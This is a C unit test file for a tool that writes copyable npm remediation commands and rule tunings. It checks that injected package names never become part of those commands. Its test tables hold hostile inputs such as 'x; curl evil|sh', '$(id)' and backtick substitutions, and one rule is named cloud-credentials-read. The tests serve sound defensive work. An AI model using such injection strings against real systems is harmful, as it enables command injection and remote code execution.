// SPDX-License-Identifier: GPL-2.0-only
/* test_remedy.c - commands that can be copied, none of them written by the attacker. */
#include <jansson.h>
#include <string.h>

#include "base/cleanup.h"
#include "cmocka_all.h"
#include "events/remedy.h"
#include "policy/tuning.h"
#include "some_rules.h"

enum { NPM, PNPM, YARN, BUN };

static void filled_in(void **state)
{
	static const struct {
		const char *remedy, *package, *log, *want;
	} table[] = {
		{ "npm view PACKAGE; npm view PACKAGE scripts", "@acme/x", NULL,
		  "npm view @acme/x; npm view @acme/x scripts" },
		{ "npm view PACKAGE@1", "x", NULL, "npm view x@1" },
		{ "sudo grep x LOG", "x", "/var/log/x.jsonl", "sudo grep x /var/log/x.jsonl" },
		{ "YOURPACKAGE NPM_PACKAGE PACKAGES PACKAGE-X", "x", "y",
		  "YOURPACKAGE NPM_PACKAGE PACKAGES PACKAGE-X" },
		{ "Again: REINSTALL.", "x", "y",
		  "Again: rm -rf node_modules && npm ci --ignore-scripts." },
		{ "npm view PACKAGE", NULL, NULL, "npm view PACKAGE" },
		{ "npm view PACKAGE", "", NULL, "npm view PACKAGE" },
		{ "npm view PACKAGE", "x; curl evil|sh", NULL, "npm view PACKAGE" },
		{ "npm view PACKAGE", "$(id)", NULL, "npm view PACKAGE" },
		{ "npm view PACKAGE", "-g", NULL, "npm view PACKAGE" },
		{ "npm view PACKAGE", "x\ny", NULL, "npm view PACKAGE" },
		{ "npm view PACKAGE", "owner/repository", NULL, "npm view PACKAGE" },
		{ "", "x", "y", "" },
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(table); i++) {
		struct buf out = BUF_INIT;

		remedy_text(&out, table[i].remedy, table[i].package, table[i].log);
		assert_string_equal(out.at, table[i].want);
		buf_free(&out);
	}
}

static struct dependents brought(size_t found, const char *a, const char *b)
{
	struct dependents d = { .found = found, .manifest = true, .lock = true };

	strncat(d.names[0], a ? a : "", DEPENDENTS_NAME - 1);
	strncat(d.names[1], b ? b : "", DEPENDENTS_NAME - 1);
	strcpy(d.names[2], "c");
	return d;
}

static void removal_is(const char *package, const struct dependents *d, unsigned manager,
		       const char *want)
{
	_buf_ struct buf out = BUF_INIT;

	remedy_remove(&out, package, d, manager_commands(manager, d && d->yarn_berry));
	assert_string_equal(out.at, want);
	assert_true(out.len <= REMEDY_MAX);
}

/* What the project's own manager would not find. Other managers have stores there. */
static void removed_elsewhere(void **state)
{
	struct dependents d = { .manifest = true };

	(void)state;
	strcpy(d.outside, "/opt/lib/node_modules/evil");
	removal_is("evil", &d, NPM,
		   "This project does not bring it in. Remove what was installed: "
		   "rm -rf /opt/lib/node_modules/evil");
	removal_is("evil", &d, PNPM,
		   "See what brings it in: pnpm install --ignore-scripts && pnpm why evil. Remove "
		   "that dependency: pnpm remove NAME --config.ignore-scripts=true");
	strcpy(d.outside, "/opt/lib/node_modules/$(id)");
	removal_is("evil", &d, NPM,
		   "This project does not bring it in: remove it where it was installed.");
	d.found = 1;
	strcpy(d.names[0], "evil");
	removal_is("evil", &d, NPM, "Remove it: npm uninstall evil --ignore-scripts");
}

static void removed(void **state)
{
	struct dependents self = brought(1, "evil", NULL), other = brought(1, "core", NULL),
			  two = brought(2, "a", "@b/c"), many = brought(9, "a", "b"),
			  none = { .manifest = true }, bare = { 0 };

	(void)state;
	removal_is("evil", &self, NPM, "Remove it: npm uninstall evil --ignore-scripts");
	removal_is("evil", &self, PNPM, "Remove it: pnpm remove evil --config.ignore-scripts=true");
	removal_is("evil", &self, YARN, "Remove it: yarn remove evil --ignore-scripts");
	removal_is("evil", &self, BUN, "Remove it: bun remove evil --ignore-scripts");
	removal_is("evil", &self, 999, "Remove it: npm uninstall evil --ignore-scripts");
	self.yarn_berry = true;
	removal_is("evil", &self, YARN, "Remove it: yarn remove evil --mode=skip-build");
	removal_is("evil", &self, NPM, "Remove it: npm uninstall evil --ignore-scripts");
	/* yarn 1 removes nothing without a lockfile */
	self.yarn_berry = self.lock = false;
	removal_is("evil", &self, YARN,
		   "Remove it: yarn install --ignore-scripts && yarn remove evil "
		   "--ignore-scripts");
	removal_is("evil", &other, NPM,
		   "core brings it in. Remove that: npm uninstall core --ignore-scripts");
	removal_is("evil", &two, BUN,
		   "a, @b/c bring it in. Remove them: bun remove a @b/c --ignore-scripts");
	removal_is("evil", &many, NPM,
		   "a, b, c and 6 more bring it in. Remove them: npm uninstall a b c "
		   "--ignore-scripts (all: npm ls evil)");
	strcpy(other.workspace, "packages/ws");
	removal_is("evil", &other, NPM,
		   "core brings it in. Remove that: npm uninstall core --ignore-scripts -w "
		   "packages/ws");
	removal_is("evil", &none, NPM,
		   "See what brings it in: npm install --ignore-scripts && npm ls evil. Remove "
		   "that dependency: npm uninstall NAME --ignore-scripts");
	removal_is("evil", NULL, BUN,
		   "See what brings it in: bun install --ignore-scripts && bun why evil. Remove "
		   "that dependency: bun remove NAME --ignore-scripts");
	/* there is no package.json that could name anything else */
	removal_is("evil", &bare, NPM, "Remove it: npm uninstall evil --ignore-scripts");
	removal_is("", &bare, NPM, "");
}

/* Neither the package's name nor one from package.json becomes more than a word. */
static void evil_names(void **state)
{
	static const char *const names[] = { "$(x)",   "a;b",	 "a b",	   "-g",   "--prefix=/",
					     "a`id`",  "a|b",	 "a&b",	   "a>b",  "a'b",
					     "a\"b",   "a\nb",	 "a\\b",   "../x", ".",
					     "a/b",    "@a",	 "@/b",	   "@-/b", "@../b",
					     "@a/b/c", "@a/.b",	 "@a/-b",  "a@1",  "~a",
					     "*",      "file:x", "\033[2J" };
	static const char *const by_hand =
		"Take the dependency that brings it in out of package.json by hand, then: npm "
		"install --ignore-scripts";
	struct dependents bare = { 0 };

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(names); i++) {
		struct dependents d = brought(1, names[i], NULL);
		_buf_ struct buf out = BUF_INIT;
		struct verdict_rule rule;

		if (strcmp(names[i], "@-/b") != 0) {
			removal_is("evil", &d, NPM, by_hand);
			removal_is(names[i], &bare, NPM, by_hand);
			removal_is(names[i], NULL, NPM, by_hand);
		}
		verdict_rule(&rule, some_rules(false), RULE_SECRET);
		if (strcmp(names[i], "@-/b") != 0)
			assert_false(remedy_permit(&out, &rule, names[i], NULL, 0));
	}
	/* a workspace's directory, too */
	{
		struct dependents d = brought(1, "core", NULL);

		strcpy(d.workspace, "a;b");
		removal_is("evil", &d, NPM, by_hand);
	}
}

static void long_names(void **state)
{
	char name[DEPENDENTS_NAME];
	struct dependents d;
	_buf_ struct buf out = BUF_INIT;
	struct verdict_rule rule;

	(void)state;
	memset(name, 'x', sizeof(name) - 1);
	name[sizeof(name) - 1] = '\0';
	d = brought(1, name, NULL);
	removal_is(name, &d, NPM,
		   "Take the dependency that brings it in out of package.json by hand, then: npm "
		   "install --ignore-scripts");
	verdict_rule(&rule, some_rules(false), RULE_SECRET);
	assert_false(remedy_permit(&out, &rule, name, NULL, 0));
	assert_int_equal(out.len, 0);
}

/* What is to be pasted is a tuning, and it holds for 90 days. */
static void permitted(void **state)
{
	_buf_ struct buf out = BUF_INIT;
	struct verdict_rule rule;
	_json_ json_t *json = NULL;
	struct tuning t = { 0 };
	struct error e = { 0 };

	(void)state;
	verdict_rule(&rule, some_rules(false), RULE_SECRET);
	assert_true(remedy_permit(&out, &rule, "@acme/x", "/usr/bin/node", 1772236800));
	assert_string_equal(out.at, "/etc/wormsign/rules.d/cloud-credentials-read.json: "
				    "{\"tune\":\"cloud-credentials-read\",\"unless\":{\"package\":["
				    "\"@acme/x\"]},\"reason\":\"a false alarm, reviewed\","
				    "\"expires\":\"2026-05-29\"}");
	json = json_loads(strchr(out.at, '{'), 0, NULL);
	assert_int_equal(tuning_parse(&t, json, "t.json", &e), 0);
	assert_int_equal(tuning_days_left(&t, 1772236800), 90);
	tuning_done(&t);

	/* nothing excepts from what the engine decides */
	buf_reset(&out);
	verdict_rule(&rule, some_rules(false), WS_RULE_UNRESOLVED);
	assert_false(remedy_permit(&out, &rule, "x", "/usr/bin/node", 0));
	assert_int_equal(out.len, 0);
}

/* Whoever acts for a package, the package is excepted, and not the program: that would be node. */
static void permitted_for_each_actor(void **state)
{
	(void)state;
	for (unsigned actor = WS_ACTOR_PROJECT; actor < WS_ACTOR_MAX; actor++) {
		struct rule r = { .id = "r", .actors = 1u << WS_ACTOR_PACKAGE | 1u << actor };
		struct verdict_rule rule = { .id = "r", .rule = &r };
		_buf_ struct buf out = BUF_INIT;

		assert_true(remedy_permit(&out, &rule, "x", "/usr/bin/node", 0));
		assert_non_null(strstr(out.at, "\"unless\":{\"package\":[\"x\"]}"));
		assert_false(remedy_permit(&out, &rule, NULL, "/usr/bin/node", 0));
	}
}

/* A rule that is about the job, too, knows no packages: it excepts the program. */
static void permitted_by_program(void **state)
{
	struct rule job = { .id = "site-rule", .actors = 1u << WS_ACTOR_JOB };
	struct verdict_rule rule = { .id = "site-rule", .rule = &job };
	_buf_ struct buf out = BUF_INIT;

	(void)state;
	assert_true(remedy_permit(&out, &rule, "x", "/usr/bin/make", 0));
	assert_non_null(strstr(out.at, "\"unless\":{\"exe\":[\"/usr/bin/make\"]}"));
	assert_false(remedy_permit(&out, &rule, "x", "/usr/bin/m*", 0));
	assert_false(remedy_permit(&out, &rule, "x", NULL, 0));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(filled_in),
		cmocka_unit_test(removed),
		cmocka_unit_test(removed_elsewhere),
		cmocka_unit_test(evil_names),
		cmocka_unit_test(long_names),
		cmocka_unit_test(permitted),
		cmocka_unit_test(permitted_for_each_actor),
		cmocka_unit_test(permitted_by_program),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
